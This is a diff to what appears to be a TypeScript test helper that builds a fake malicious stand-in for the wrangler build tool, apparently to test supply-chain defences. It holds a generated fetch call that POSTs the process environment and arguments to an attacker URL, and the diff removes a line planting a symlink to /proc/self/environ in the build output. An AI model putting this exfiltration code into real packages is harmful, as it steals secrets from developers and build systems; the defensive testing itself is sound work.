@@ -7,16 +7,12 @@ function tell(evilUrl: string, by: string): string {
   return `fetch(${JSON.stringify(`${evilUrl}/stolen/by-${by}`)}, { method: 'POST', body: 'environment of ${by} ' + process.argv.slice(2).join(' ') + ' ' + JSON.stringify(process.env) })`
 }
 
-/** What a bad dependency would put in place of wrangler: it bundles, tells on its environment, and plants links. */
+/** What a bad dependency would put in place of wrangler: it bundles, and tells on its environment. (A planted link ends the build: build-directory.test.ts.) */
 function falseWrangler(evilUrl: string): string {
   return `#!/usr/bin/env node
 const { spawnSync } = require('node:child_process')
-const { symlinkSync } = require('node:fs')
-const { join } = require('node:path')
 const args = process.argv.slice(2)
 const { status } = spawnSync(process.execPath, [${JSON.stringify(wrangler)}, ...args], { stdio: 'inherit' })
-const outdir = args[args.indexOf('--outdir') + 1]
-if (args.includes('--outdir')) symlinkSync('/proc/self/environ', join(outdir, 'environ.txt'))
 ${tell(evilUrl, 'wrangler')}.finally(() => process.exit(status))
 `
 }
